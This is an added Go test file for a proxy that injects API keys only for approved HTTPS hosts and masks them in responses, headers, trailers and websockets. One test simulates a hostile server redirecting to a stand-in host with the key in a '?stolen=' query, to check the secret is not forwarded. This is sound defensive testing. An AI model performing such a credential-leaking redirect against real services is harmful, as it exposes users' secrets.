@@ -1,0 +1,440 @@
+package proxy
+
+import (
+	"bytes"
+	"compress/gzip"
+	"crypto/x509"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptrace"
+	"net/textproto"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+)
+
+// echo answers with all that it was sent.
+func echo(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	for _, name := range []string{"X-Api-Key", "Authorization"} {
+		if value := r.Header.Get(name); value != "" {
+			w.Header().Set("Echo-"+name, value)
+		}
+	}
+	fmt.Fprintf(w, "%s %s %d %q %q %s", r.Method, r.RequestURI, r.ContentLength, r.Header["X-Api-Key"], r.Header["Authorization"], body)
+}
+
+// seen keeps what a host was really sent.
+type seen struct {
+	mu  sync.Mutex
+	all []string
+}
+
+func (s *seen) echo(w http.ResponseWriter, r *http.Request) {
+	text, _ := io.ReadAll(r.Body)
+	r.Body = io.NopCloser(bytes.NewReader(text))
+	s.mu.Lock()
+	s.all = append(s.all, fmt.Sprint(r.Host, " ", r.RequestURI, " ", r.Header, " ", r.ContentLength, " ", string(text)))
+	s.mu.Unlock()
+	echo(w, r)
+}
+
+func (s *seen) last() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if len(s.all) == 0 {
+		return ""
+	}
+	return s.all[len(s.all)-1]
+}
+
+func TestASecretIsReplacedForItsHostAndMaskedInAnswers(t *testing.T) {
+	inQuery, inBody := theSecret, theSecret
+	inQuery.Query, inBody.Body = true, true
+	key := theSecret.Placeholder()
+	long := strings.Repeat("a", 300<<10)
+	for _, test := range []struct {
+		name    string
+		secret  Secret
+		query   string
+		header  []string
+		body    string
+		arrives string
+	}{
+		{"in a header", theSecret, "", []string{"X-Api-Key", key}, "", "X-Api-Key:[" + secretValue + "]"},
+		{"within a header", theSecret, "", []string{"Authorization", "Bearer " + key}, "", "Authorization:[Bearer " + secretValue + "]"},
+		{"as a password", theSecret, "", []string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+key))}, "", base64.StdEncoding.EncodeToString([]byte("me:" + secretValue))},
+		{"in a query", inQuery, "?key=" + key + "&x=1", nil, "", "?key=" + url.QueryEscape(secretValue) + "&x=1"},
+		{"in a body", inBody, "", nil, "plain " + key + " text", fmt.Sprintf("%d plain %s text", len("plain  text")+len(secretValue), secretValue)},
+		{"in a form", inBody, "", []string{"Content-Type", "application/x-www-form-urlencoded"}, "key=" + key + "&x=1", "key=" + url.QueryEscape(secretValue) + "&x=1"},
+		{"in JSON", inBody, "", []string{"Content-Type", "application/json; charset=utf-8"}, `{"key": "` + key + `"}`, `{"key": "` + strings.ReplaceAll(secretValue, `"`, `\"`) + `"}`},
+		{"in a long body", inBody, "", nil, long + key + long + key, "-1 " + long + secretValue + long + secretValue},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			var s seen
+			w := newWorld(t, Options{Mode: Allowlist, Secrets: []Secret{test.secret}}, s.echo)
+			r, _ := http.NewRequest(http.MethodPost, "https://api.example/v1"+test.query, strings.NewReader(test.body))
+			for i := 0; i < len(test.header); i += 2 {
+				r.Header.Set(test.header[i], test.header[i+1])
+			}
+			response, err := w.client().Do(r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer response.Body.Close()
+			body, _ := io.ReadAll(response.Body)
+			if response.StatusCode != http.StatusOK || !strings.Contains(s.last(), test.arrives) || strings.Contains(s.last(), key) {
+				t.Errorf("%s: the host has seen %.500q", response.Status, s.last())
+			}
+			answer := fmt.Sprint(response.Header, string(body))
+			if w.proxy.mask.In([]byte(answer)) || !strings.Contains(answer, "[masked: API_KEY]") || strings.Contains(answer, "Secret") {
+				t.Errorf("the answer is %.500q", answer)
+			}
+			if len(test.header) > 0 && test.header[0] != "Content-Type" && !strings.Contains(fmt.Sprint(response.Header), "[masked") {
+				t.Errorf("the headers are %v", response.Header)
+			}
+			if e := w.newest(0); e.Method != http.MethodPost || e.Host != secretHost || e.Path != "/v1" || !e.Allowed || e.Status != 200 || e.SentBytes == 0 || e.ReceivedBytes == 0 {
+				t.Errorf("recorded as %+v", e)
+			}
+		})
+	}
+}
+
+func TestAPlaceholderThatMayNotBeThereIsNotSent(t *testing.T) {
+	other := Secret{Name: "OTHER", Variable: "OTHER", Hosts: hosts("other.example"), Query: true, Body: true, Value: "another-Secret-9876"}
+	key, otherKey := theSecret.Placeholder(), other.Placeholder()
+	var s seen
+	w := newWorld(t, Options{Mode: Open, Secrets: []Secret{theSecret, other}}, s.echo)
+	for _, test := range []struct {
+		name, address, header, body, words string
+	}{
+		{"plain HTTP to its host", "http://api.example/", key, "", "in a header of a request to api.example:80, which was not sent: the value goes out by https:// alone"},
+		{"plain HTTP to another host", "http://public.example/", key, "", "the value goes to api.example alone"},
+		{"the password of another host", "http://public.example/", "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+key)), "", "the value goes to api.example alone"},
+		{"an address of another host", "http://public.example/?x=" + key, "", "", "in the query of an address of a request to public.example:80"},
+		{"a path", "https://api.example/" + key + "/x", "", "", "in an address of a request to api.example:443, which was not sent: put it into a header"},
+		{"a query that was not asked for", "https://api.example/?key=" + key, "", "", "put it into a header, or the server's user can add ,query to --secret API_KEY@api.example"},
+		{"a body that was not asked for", "https://api.example/", "", "key=" + key, "put it into a header, or the server's user can add ,body to --secret API_KEY@api.example"},
+		{"a body of another host", "http://public.example/", "", "key=" + key, "the value goes to api.example alone"},
+		{"another secret's host", "https://other.example/", key, "", "the value goes to api.example alone"},
+		{"both", "https://api.example/", key + otherKey, "", "the placeholder of OTHER is in a header of a request to api.example:443, which was not sent: the value goes to other.example alone"},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			r, _ := http.NewRequest(http.MethodPost, test.address, strings.NewReader(test.body))
+			if test.header != "" {
+				r.Header.Set("Authorization", test.header)
+			}
+			status, body := w.do(r)
+			if !strings.HasPrefix(status, "403") || !strings.Contains(body, test.words) || !strings.HasPrefix(body, "placeholder_denied: ") {
+				t.Errorf("%s %s", status, body)
+			}
+			if s.last() != "" {
+				t.Errorf("the host has seen %s", s.last())
+			}
+		})
+	}
+}
+
+func TestARedirectToAnotherHostDoesNotCarryASecret(t *testing.T) {
+	var s seen
+	w := newWorld(t, Options{Mode: Open, Secrets: []Secret{theSecret}}, func(w http.ResponseWriter, r *http.Request) {
+		if r.Host == secretHost {
+			http.Redirect(w, r, "https://public.example/?stolen="+url.QueryEscape(r.Header.Get("X-Api-Key")), http.StatusTemporaryRedirect)
+			return
+		}
+		s.echo(w, r)
+	})
+	status, _ := w.get("https://api.example/", "X-Api-Key", theSecret.Placeholder())
+	if got := s.last(); !strings.Contains(got, "X-Api-Key:["+theSecret.Placeholder()+"]") || w.proxy.mask.In([]byte(got)) || !strings.Contains(got, "masked") {
+		t.Errorf("%s: the other host has seen %s", status, got)
+	}
+}
+
+func TestATunnelOfASecretIsForItsHostAlone(t *testing.T) {
+	var s seen
+	w := newWorld(t, Options{Mode: Open, Secrets: []Secret{theSecret}}, s.echo)
+	r, _ := http.NewRequest(http.MethodGet, "https://api.example/", nil)
+	r.Host = "public.example"
+	r.Header.Set("X-Api-Key", theSecret.Placeholder())
+	if status, body := w.do(r); !strings.HasPrefix(status, "421") || !strings.Contains(body, "other_host: this is a connection to api.example") || s.last() != "" {
+		t.Errorf("%s %s %s", status, body, s.last())
+	}
+}
+
+func TestAHostThatCannotBeVerifiedGetsNoSecret(t *testing.T) {
+	var s seen
+	wrong := theSecret
+	wrong.Hosts = hosts("wrong.example")
+	w := newWorld(t, Options{Mode: Allowlist, Secrets: []Secret{wrong}}, s.echo)
+	status, body := w.get("https://wrong.example/", "X-Api-Key", wrong.Placeholder())
+	if !strings.HasPrefix(status, "502") || body != "host_unreachable: wrong.example:443 could not be reached: its TLS certificate is not valid\n" || s.last() != "" {
+		t.Errorf("%s %s %s", status, body, s.last())
+	}
+}
+
+func TestASessionWithoutAnAuthority(t *testing.T) {
+	w := newWorld(t, Options{Mode: Allowlist, Secrets: []Secret{theSecret}}, hello)
+	w.proxy.Forget("s")
+	if status, _ := w.get("https://api.example/"); !strings.Contains(status, "no_authority: this session began without certificates for api.example") {
+		t.Error(status)
+	}
+}
+
+func TestTheAuthorityOfASessionIsKept(t *testing.T) {
+	other := theSecret
+	other.Hosts = hosts("other.example")
+	with := func(s ...Secret) *Proxy { return New(Options{Mode: Allowlist, Secrets: s}) }
+	if certificate, kept, err := New(Options{}).Trust("s", []byte("x")); certificate != "" || kept != nil || err != nil {
+		t.Errorf("without secrets: %q %q %v", certificate, kept, err)
+	}
+	first, kept, err := with(theSecret).Trust("s", nil)
+	if err != nil || !strings.HasPrefix(first, "-----BEGIN CERTIFICATE-----") || strings.Contains(first, "PRIVATE") {
+		t.Fatalf("%s %v", first, err)
+	}
+	for _, test := range []struct {
+		name string
+		p    *Proxy
+		kept []byte
+		same bool
+	}{
+		{"the same hosts", with(theSecret), kept, true}, {"other hosts", with(other), kept, false}, {"nothing", with(theSecret), nil, false}, {"garbage", with(theSecret), []byte("x"), false},
+	} {
+		if again, _, err := test.p.Trust("s", test.kept); err != nil || (again == first) != test.same {
+			t.Errorf("%s: the same is %v (%v)", test.name, again == first, err)
+		}
+	}
+}
+
+func gzipped(text string) string {
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	fmt.Fprint(z, text)
+	_ = z.Close()
+	return b.String()
+}
+
+func TestAnswersAreMaskedWhateverTheirEncodingsOrRefused(t *testing.T) {
+	const masked, refused = "it is [masked: API_KEY]", "encoding: the host "
+	for _, test := range []struct {
+		name      string
+		status    int
+		encodings []string // of headers
+		times     int      // that the body is encoded
+		want      string
+	}{
+		{"none", 200, nil, 0, masked},
+		{"one that is none", 200, []string{"Identity", " "}, 0, masked},
+		{"the one that was asked for", 200, []string{"gzip"}, 1, masked},
+		{"its older name", 200, []string{" X-GZip "}, 1, masked},
+		{"behind one that is none", 200, []string{"identity", "gzip"}, 1, masked},
+		{"in one header with one that is none", 200, []string{"identity, gzip,"}, 1, masked},
+		{"twice", 200, []string{"gzip", "gzip"}, 2, refused},
+		{"twice in one header", 200, []string{"gzip, x-gzip"}, 2, refused},
+		{"one that was not asked for", 200, []string{"br"}, 0, refused},
+		{"within the one that was asked for", 200, []string{"gzip", "br"}, 1, refused},
+		{"a part", 206, nil, 0, refused},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			w := newWorld(t, Options{Mode: Allowlist, Secrets: []Secret{theSecret}}, func(w http.ResponseWriter, r *http.Request) {
+				if r.Header.Get("Range") != "" || r.Header.Get("Accept-Encoding") != "gzip" {
+					t.Errorf("the headers are %v", r.Header)
+				}
+				body := "it is " + r.Header.Get("X-Api-Key")
+				for range test.times {
+					body = gzipped(body)
+				}
+				w.Header()["Content-Encoding"] = test.encodings
+				w.WriteHeader(test.status)
+				fmt.Fprint(w, body)
+			})
+			for _, accept := range []string{"gzip, br", "br", "identity"} {
+				status, body := w.get("https://api.example/", "X-Api-Key", theSecret.Placeholder(), "Accept-Encoding", accept, "Range", "bytes=1-2")
+				if !strings.HasPrefix(body, test.want) || (test.want == masked) != (status == "200 OK") {
+					t.Errorf("%s: %s %q", accept, status, body)
+				}
+			}
+		})
+	}
+}
+
+func TestHintsTrailersAndNamesAreMasked(t *testing.T) {
+	w := newWorld(t, Options{Mode: Allowlist, Secrets: []Secret{theSecret}}, func(w http.ResponseWriter, r *http.Request) {
+		key := r.Header.Get("X-Api-Key")
+		w.Header().Set("Link", key)
+		w.WriteHeader(http.StatusEarlyHints)
+		w.Header().Set("Trailer", "X-Echo")
+		fmt.Fprint(w, key[:10])
+		_ = http.NewResponseController(w).Flush()
+		fmt.Fprint(w, key[10:])
+		w.Header().Set("X-Echo", key)
+		w.Header().Set(http.TrailerPrefix+"X-Late", key)
+	})
+	r, _ := http.NewRequest(http.MethodGet, "https://api.example/", nil)
+	r.Header.Set("X-Api-Key", theSecret.Placeholder())
+	var hint string
+	r = r.WithContext(httptrace.WithClientTrace(t.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
+		hint = h.Get("Link")
+		return nil
+	}}))
+	response, err := w.client().Do(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer response.Body.Close()
+	body, _ := io.ReadAll(response.Body)
+	const want = "[masked: API_KEY]"
+	if hint != want || string(body) != want || response.Header.Get("Link") != want || response.Trailer.Get("X-Echo") != want || response.Trailer.Get("X-Late") != want {
+		t.Errorf("hint %q, body %q, header %v, trailer %v", hint, body, response.Header, response.Trailer)
+	}
+}
+
+// A client keeps its connection to a host, and nothing that happens between two requests ends it.
+func TestConnectionsAreKeptAlive(t *testing.T) {
+	w := newWorld(t, Options{Mode: Open, Secrets: []Secret{theSecret}}, hello)
+	for _, address := range []string{"http://public.example/", "https://public.example/", "https://api.example/"} {
+		client := w.client()
+		client.Transport.(*http.Transport).ForceAttemptHTTP2 = false
+		made := 0
+		ctx := httptrace.WithClientTrace(t.Context(), &httptrace.ClientTrace{GotConn: func(c httptrace.GotConnInfo) {
+			if !c.Reused {
+				made++
+			}
+		}})
+		for range 40 {
+			r, _ := http.NewRequestWithContext(ctx, http.MethodPost, address, strings.NewReader("body"))
+			response, err := client.Do(r)
+			if err != nil {
+				t.Fatalf("%s: %v", address, err)
+			}
+			_, _ = io.Copy(io.Discard, response.Body)
+			response.Body.Close()
+		}
+		if made != 1 {
+			t.Errorf("%s: 40 requests took %d connections", address, made)
+		}
+	}
+}
+
+func TestWebsockets(t *testing.T) {
+	w := newWorld(t, Options{Mode: Open, Secrets: []Secret{theSecret}}, func(w http.ResponseWriter, r *http.Request) {
+		conn, buffered, err := http.NewResponseController(w).Hijack()
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		defer conn.Close()
+		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX-Echo: %s\r\n\r\n", r.Header.Get("X-Api-Key"))
+		for {
+			line, err := buffered.ReadString('\n')
+			if err != nil {
+				return
+			}
+			fmt.Fprintf(conn, "%s %s s", strings.TrimSpace(line), r.Header.Get("X-Api-Key"))
+		}
+	})
+	for _, address := range []string{"http://public.example/", "https://api.example/"} {
+		r, _ := http.NewRequest(http.MethodGet, address, nil)
+		r.Header.Set("Connection", "Upgrade")
+		r.Header.Set("Upgrade", "websocket")
+		key, want := "", "hello  s"
+		if strings.HasPrefix(address, "https:") {
+			key, want = theSecret.Placeholder(), "hello "+strings.Repeat("*", len(secretValue))+" s"
+		}
+		r.Header.Set("X-Api-Key", key)
+		response, err := w.client().Do(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if response.StatusCode != http.StatusSwitchingProtocols || strings.Contains(response.Header.Get("X-Echo"), "Secret") {
+			t.Fatalf("%s %v", response.Status, response.Header)
+		}
+		defer response.Body.Close()
+		conn := response.Body.(io.ReadWriteCloser)
+		for range 2 {
+			fmt.Fprint(conn, "hello\n")
+			got := make([]byte, len(want))
+			if _, err := io.ReadFull(conn, got); err != nil || string(got) != want {
+				t.Errorf("%s: %q (%v)", address, got, err)
+			}
+		}
+	}
+}
+
+func TestAWebsocketThatIsCompressedIsRefused(t *testing.T) {
+	w := newWorld(t, Options{Mode: Allowlist, Secrets: []Secret{theSecret}}, func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Sec-Websocket-Extensions") != "" {
+			t.Errorf("the headers are %v", r.Header)
+		}
+		conn, _, err := http.NewResponseController(w).Hijack()
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		defer conn.Close()
+		fmt.Fprint(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
+	})
+	status, body := w.get("https://api.example/", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-WebSocket-Extensions", "permessage-deflate")
+	if !strings.HasPrefix(status, "502") || !strings.HasPrefix(body, "encoding: the host compresses the messages of a websocket") {
+		t.Errorf("%s %q", status, body)
+	}
+}
+
+func TestAuthoritiesAreKept(t *testing.T) {
+	a, err := NewAuthority([]string{"b.example", "a.example"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	text, err := a.MarshalText()
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := new(Authority)
+	if err := b.UnmarshalText(text); err != nil {
+		t.Fatal(err)
+	}
+	if !b.Covers([]string{"a.example", "b.example"}) || b.Covers([]string{"a.example", "c.example"}) || !bytes.Equal(a.CertificatePEM(), b.CertificatePEM()) {
+		t.Errorf("it is another one: %v", b.certificate.PermittedDNSDomains)
+	}
+	pool := x509.NewCertPool()
+	pool.AppendCertsFromPEM(a.CertificatePEM())
+	for host, want := range map[string]bool{"a.example": true, "c.example": false, "example": false} {
+		leaf, err := b.leaf(host)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if again, _ := b.leaf(host); again != leaf {
+			t.Error("a certificate is not kept")
+		}
+		if _, err := leaf.Leaf.Verify(x509.VerifyOptions{DNSName: host, Roots: pool}); (err == nil) != want {
+			t.Errorf("%s: %v", host, err)
+		}
+	}
+	for _, broken := range []string{"", "x", string(a.CertificatePEM())} {
+		if new(Authority).UnmarshalText([]byte(broken)) == nil {
+			t.Errorf("%q is taken for an authority", broken)
+		}
+	}
+	if _, err := NewAuthority(nil); err == nil {
+		t.Error("an authority for every host")
+	}
+}
+
+func TestWordsForAModel(t *testing.T) {
+	for want, options := range map[string]Options{
+		"": {},
+		"only api.github.com, *.example.com by HTTP(S)":             {Mode: Allowlist, Hosts: hosts("api.github.com", "*.example.com")},
+		"public hosts by HTTP(S), on the ports 80, 443, 8080, 8443": {Mode: Open},
+		"only api.example by HTTP(S); API_KEY has a placeholder, which is replaced by the value in headers of requests to https://api.example": {Mode: Allowlist, Secrets: []Secret{theSecret}},
+	} {
+		if got := New(options).Summary(); got != want {
+			t.Errorf("%s", got)
+		}
+	}
+	p := New(Options{Mode: Allowlist, Secrets: []Secret{theSecret}})
+	if env := p.Environment(); len(env) != 1 || env["API_KEY"] != theSecret.Placeholder() {
+		t.Errorf("%v", env)
+	}
+}
